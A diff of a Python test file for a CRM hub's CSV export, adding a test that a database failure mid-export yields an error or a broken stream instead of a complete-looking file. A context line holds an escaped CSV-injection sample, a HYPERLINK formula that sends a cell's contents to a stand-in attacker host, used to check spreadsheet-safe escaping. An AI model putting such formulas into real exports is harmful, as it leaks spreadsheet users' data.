@@ -4,12 +4,17 @@ from __future__ import annotations
 
 import base64
 import csv
+import functools
 import io
 from datetime import UTC, datetime, timedelta
 
+import aiohttp
+import pytest
 from bson import ObjectId
+from pymongo.errors import AutoReconnect
 
 from crm_core import reporting
+from crm_core.reporting import csv_text
 from hub.listeners import ListenerLoop
 from hub.metrics import Metrics
 from tests.conftest import chat_message
@@ -227,6 +232,25 @@ async def test_csv_export_streams_chunks_that_spreadsheets_read_as_text(hub, mon
     assert [r["contact_name"] for r in rows] == [
         "王小明", '\'=HYPERLINK("http://evil.example/?"&A1,"Refund")', "'@SUM(A1:A9)", "-", "'+86 138", "Ana"
     ]  # fmt: skip
+
+
+async def test_an_export_the_database_fails_during_is_never_a_complete_looking_file(hub, monkeypatch):
+    async def failing(period, channel=None, *, rows_before: int):
+        if rows_before:
+            yield csv_text(reporting.EXPORT_FIELDS, [{"id": "1"}] * rows_before, first=True)
+        raise AutoReconnect("the database went away")
+
+    manager = await hub.login("manager")
+    headers = {"Authorization": f"Bearer {manager}"}
+    monkeypatch.setattr(hub.services.reports, "export_csv", functools.partial(failing, rows_before=0))
+    async with hub.client.get("/api/v1/reports/export.csv", headers=headers) as resp:
+        assert resp.status == 503 and (await resp.json())["error"]["code"] == "database_unavailable"
+    monkeypatch.setattr(hub.services.reports, "export_csv", functools.partial(failing, rows_before=3))
+    async with hub.client.get("/api/v1/reports/export.csv", headers=headers) as resp:
+        assert resp.status == 200
+        with pytest.raises(aiohttp.ClientPayloadError):
+            await resp.read()
+    assert (await hub.call("GET", "/healthz"))[0] == 200  # and the hub goes on
 
 
 async def test_daily_csv_reads_the_rollups(hub):
